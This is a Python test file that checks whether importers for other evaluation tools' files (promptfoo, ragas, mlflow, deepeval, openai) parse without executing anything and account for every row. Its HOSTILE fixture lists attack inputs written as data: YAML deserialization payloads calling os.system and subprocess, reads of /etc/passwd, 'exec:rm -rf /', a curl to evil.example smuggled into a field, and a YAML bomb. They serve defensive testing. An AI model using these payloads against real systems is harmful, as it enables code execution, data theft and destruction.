"""Files of other tools are parsed, never run, and every row of them is accounted for (evaluation.md 9)."""

from __future__ import annotations

import builtins
import codecs
import io
import json
import os
import socket
import subprocess
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pilotage.core.canonical import Json
from pilotage.core.errors import UsageError
from pilotage.core.located import Problems
from pilotage.evaluation.digests import case_digest
from pilotage.evaluation.imports.export import export_deepeval, export_mlflow, export_promptfoo, export_ragas
from pilotage.evaluation.imports.promptfoo import import_promptfoo
from pilotage.evaluation.imports.record import Account
from pilotage.evaluation.imports.tables import import_deepeval, import_mlflow, import_openai, import_ragas
from pilotage.workspace.golden import GoldenCase
from pilotage.workspace.golden_file import parse_golden

READERS: dict[str, Callable[[bytes], Account]] = {
    "promptfoo": import_promptfoo,
    "ragas": import_ragas,
    "mlflow": import_mlflow,
    "deepeval": import_deepeval,
    "openai": import_openai,
}


def lines(*rows: object) -> bytes:
    return "".join(f"{json.dumps(row)}\n" for row in rows).encode()


def config_of(*tests: object, **config: object) -> bytes:
    return json.dumps({"prompts": ["{{question}}"], "tests": tests, **config}).encode()


def expects(account: Account) -> list[Json]:
    return [one.row.get("expect") for one in account.cases]


def golden(*rows: dict[str, Any]) -> tuple[GoldenCase, ...]:
    problems = Problems()
    found = parse_golden("g", lines(*rows), None, file="g.jsonl", problems=problems)
    problems.raise_if_any()
    return found.cases


@pytest.fixture
def spies(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Every way out of a parser, watched."""
    called: list[str] = []
    codecs.lookup("utf-8-sig")  # loaded now: importing it would open and execute the codec's own module

    def spy(name: str) -> Callable[..., Any]:
        def touched(*_given: object, **_named: object) -> Any:
            called.append(name)
            message = name
            raise AssertionError(message)

        return touched

    with monkeypatch.context() as watched:
        watched.setattr(socket, "socket", spy("socket"))
        watched.setattr(socket, "getaddrinfo", spy("name"))
        watched.setattr(subprocess, "Popen", spy("process"))
        watched.setattr(os, "system", spy("shell"))
        watched.setattr(builtins, "open", spy("file"))
        watched.setattr(io, "open", spy("file"))
        watched.setattr(builtins, "eval", spy("eval"))
        watched.setattr(builtins, "exec", spy("exec"))
        yield called


LAUGHS = "".join(
    [
        "a0: &a0 [x, x]\n",
        *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 9)),
        "tests: *a8\n",
    ]
).encode()
HOSTILE = (
    b"!!python/object/apply:os.system ['touch /tmp/pwned']",
    b"tests:\n  - !!python/object/apply:subprocess.Popen [[id]]\n",
    b"tests: file:///etc/passwd",
    b"tests: [{vars: {question: 'file:///etc/passwd'}}]",
    b"tests: [{vars: {question: '{{ self.__init__.__globals__ }}'}}]",
    b"tests: [{vars: {question: '{% for x in y %}{% endfor %}'}}]",
    b"tests: [{vars: {question: q}, assert: [{type: javascript, value: 'process.exit(1)'}]}]",
    b"tests: [{vars: {question: q}, assert: [{type: python, value: 'file://evil.py'}]}]",
    b"tests: [{vars: {question: q}, assert: [{type: webhook, value: 'http://evil.example/x'}]}]",
    b"tests: [{vars: {question: q}, assert: [{type: contains, value: 'file:///etc/passwd'}]}]",
    b"tests: [{vars: {question: q}}]\nproviders: ['exec:rm -rf /']\nprompts: ['file://../../etc/passwd']",
    LAUGHS,
    b'{"user_input": "file:///etc/passwd"}',
    b'{"inputs": {"question": "$(curl http://evil.example)"}}',
    b'{"input": "q", "ideal": "`id`"}',
    b"[" * 100_000,
    b"\xff\xfe\x00",
    b"",
)


@pytest.mark.parametrize("data", HOSTILE)
@pytest.mark.parametrize("name", sorted(READERS))
def test_importers_execute_nothing(name: str, data: bytes, spies: list[str]) -> None:
    problem = None
    try:
        assert_sums(READERS[name](data))
    except UsageError as error:
        problem = error
    assert problem is None or (problem.code == "IMPORT_UNREADABLE" and problem.hint)
    assert spies == []


def test_the_spies_are_armed(spies: list[str]) -> None:
    with pytest.raises(AssertionError):
        open("/etc/hostname")  # noqa: PTH123, SIM115 - what a parser must never do
    with pytest.raises(AssertionError):
        subprocess.run(["id"], check=False)
    assert spies == ["file", "process"]


def assert_sums(account: Account) -> None:
    found = account.as_json()
    skipped = found["skipped"]
    assert isinstance(skipped, list)
    assert found["read"] == int(str(found["imported"])) + int(str(found["converted"])) + len(skipped)


KEYS = ["input", "ideal", "user_input", "inputs", "question", "expectations", "turns", "role", "content"]
KEYS += ["vars", "assert", "type", "value", "item", "expected_output", "reference_context_ids"]
PLAIN = st.none() | st.booleans() | st.integers(0, 9) | st.text(max_size=12)


def mapping(inner: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.dictionaries(st.sampled_from(KEYS), inner, max_size=4)


NESTED = st.recursive(PLAIN, lambda inner: st.lists(inner, max_size=3) | mapping(inner), max_leaves=12)


@given(st.lists(mapping(NESTED), max_size=5))
@settings(max_examples=150, deadline=None)
def test_any_rows_are_accounted_for(rows: list[Any]) -> None:
    for name, reader in READERS.items():
        data = config_of(*rows) if name == "promptfoo" else lines(*rows)
        try:
            account = reader(data)
        except UsageError:
            continue
        assert_sums(account)
        assert account.read == len(rows)


def test_promptfoo_assertions_become_facts() -> None:
    account = import_promptfoo(
        config_of(
            {
                "description": "limit",
                "vars": {"question": "What is the limit?", "amount": "$5,000"},
                "assert": [
                    {"type": "icontains", "value": "{{amount}}"},
                    {"type": "icontains-any", "value": ["daily", "per day"]},
                    {"type": "not-icontains", "value": "weekly"},
                    {"type": "assert-set", "assert": [{"type": "icontains-all", "value": ["wire", "retail"]}]},
                ],
            }
        )
    )
    [case] = account.cases
    assert case.row["id"] == "limit"
    assert expects(account) == [
        {
            "facts": [{"any": ["$5,000"]}, {"any": ["daily", "per day"]}, {"all": ["wire", "retail"]}],
            "forbid": [{"any": ["weekly"]}],
        }
    ]
    assert account.as_json()["imported"] == 1


@pytest.mark.parametrize(
    "kind", ["javascript", "python", "ruby", "webhook", "llm-rubric", "similar", "latency", "is-json", "no-such-type"]
)
def test_what_nobody_here_checks_stays_on_the_case(kind: str) -> None:
    account = import_promptfoo(config_of({"vars": {"question": "q?"}, "assert": [{"type": kind, "value": "x"}]}))
    [case] = account.cases
    assert case.unsupported == (f"imported:{kind}",)
    assert account.as_json()["unsupported"] == [
        {"case": case.row["id"], "type": kind, "reason": "No scorer checks it."}
    ]


def test_default_assertions_hold_for_every_test_and_weight_zero_for_none() -> None:
    account = import_promptfoo(
        config_of(
            {"vars": {"question": "a?"}},
            {"vars": {"question": "b?"}, "assert": [{"type": "icontains", "value": "b", "weight": 0}]},
            defaultTest={"assert": [{"type": "is-refusal"}]},
        )
    )
    assert expects(account) == [{"refuse": True}, {"refuse": True}]
    assert account.cases[1].lossy == ("icontains is informative",)


ROWS = (
    {"id": "text", "question": "What is it?", "as": "p", "expect": {"facts": ["$43 million"]}, "must_pass": True},
    {"id": "many", "question": "Which?", "as": "p", "expect": {"facts": [{"any": ["a", "b"]}, {"all": ["c", "d"]}]}},
    {"id": "number", "question": "How long?", "as": "p", "expect": {"facts": [{"number": 30, "unit": "days"}]}},
    {"id": "date", "question": "When?", "as": "p", "expect": {"facts": [{"date": "2026-07-01", "granularity": "day"}]}},
    {"id": "cite", "question": "Where?", "as": "p", "expect": {"citations": ["a.md#x", {"any": ["b.md", "c.md"]}]}},
    {"id": "no", "question": "May I?", "as": "p", "expect": {"refuse": ["not_permitted"], "forbid": ["yes"]}},
    {"id": "turns", "question": "And?", "as": "p", "history": [{"role": "user", "content": "Hi"}],
     "expect": {"answer": "Then."}},
)  # fmt: skip


@pytest.mark.feature("RH.2")
def test_a_round_trip_over_promptfoo_keeps_case_digests() -> None:
    cases = golden(*ROWS)
    account = import_promptfoo(export_promptfoo(cases).data)
    back = golden(*[dict(one.row) for one in account.cases])
    assert [case_digest(one) for one in back] == [case_digest(one) for one in cases]


def test_an_edited_export_is_read_from_its_assertions() -> None:
    data = export_promptfoo(golden(ROWS[1])).data.replace(b"- b\n", b"- z\n", 1)
    [case] = import_promptfoo(data).cases
    assert "z" in json.dumps(case.row["expect"])
    assert "must_pass" not in case.row


def test_losses_of_an_export_are_listed() -> None:
    lost = {case for case, _ in export_promptfoo(golden(*ROWS)).lossy}
    assert lost == {"number", "date", "cite", "no", "turns"}
    assert ("text", "facts") in export_ragas(golden(*ROWS)).lossy
    assert ("number", "facts that are no text") in export_mlflow(golden(*ROWS)).lossy


@pytest.mark.feature("RH.2")
@pytest.mark.parametrize(
    ("write", "read"),
    [(export_ragas, import_ragas), (export_mlflow, import_mlflow), (export_deepeval, import_deepeval)],
)
def test_questions_and_answers_come_back(write: Callable[..., Any], read: Callable[[bytes], Account]) -> None:
    cases = golden(*ROWS)
    account = read(write(cases).data)
    assert [one.row["question"] for one in account.cases] == [one.question for one in cases]
    [answered] = [one for one in account.cases if one.row["question"] == "And?"]
    assert answered.row["expect"] == {"answer": "Then."}
    assert answered.row["history"] == [{"role": "user", "content": "Hi"}]


def test_ragas_rows_and_cells() -> None:
    row = {"user_input": "q?", "reference": "r", "reference_context_ids": ["d1", "d2"], "response": "said"}
    account = import_ragas(lines(row))
    assert expects(account) == [{"answer": "r", "retrieve": {"d1": 1, "d2": 1}}]
    assert account.cases[0].lossy == ("response",)
    cells = import_ragas(b"user_input,reference,reference_context_ids\nq?,r,\"['d1', 'd2']\"\nshort\n")
    assert expects(cells) == expects(account)
    assert [case for case, _ in cells.skipped] == ["row 3"]


def test_mlflow_guidelines_are_unsupported_and_facts_are_facts() -> None:
    wanted = {
        "expected_facts": ["f1"],
        "expected_response": "r",
        "expected_retrieved_context": [{"doc_uri": "d"}],
        "guidelines": "be kind",
    }
    account = import_mlflow(lines({"inputs": {"question": "q?"}, "expectations": wanted}))
    assert expects(account) == [{"facts": ["f1"], "answer": "r", "retrieve": {"d": 1}}]
    assert account.cases[0].unsupported == ("imported:guidelines",)


def test_deepeval_turns_become_history_and_tools_are_unsupported() -> None:
    turns = [{"role": "user", "content": "a"}, {"role": "assistant", "content": "b"}, {"role": "user", "content": "c"}]
    [case] = import_deepeval(lines({"turns": turns, "expected_tools": [{"name": "t"}]})).cases
    assert (case.row["question"], len(case.row["history"])) == ("c", 2)  # type: ignore[arg-type]
    assert case.unsupported == ("imported:expected_tools",)


def test_openai_samples_with_ideal_and_with_item() -> None:
    account = import_openai(
        lines(
            {"input": [{"role": "system", "content": "s"}, {"role": "user", "content": "q?"}], "ideal": ["x", "y"]},
            {"item": {"question": "r?", "answer": "z"}, "graders": [{"type": "string_check"}, {"type": "score_model"}]},
            {"ideal": "alone"},
        )
    )
    assert expects(account)[0] == {"facts": [{"any": ["x", "y"]}], "answer": "x"}
    assert account.cases[0].lossy == ("system",)
    assert account.cases[1].unsupported == ("imported:score_model",)
    assert account.skipped == [("row 3", "It has no question.")]
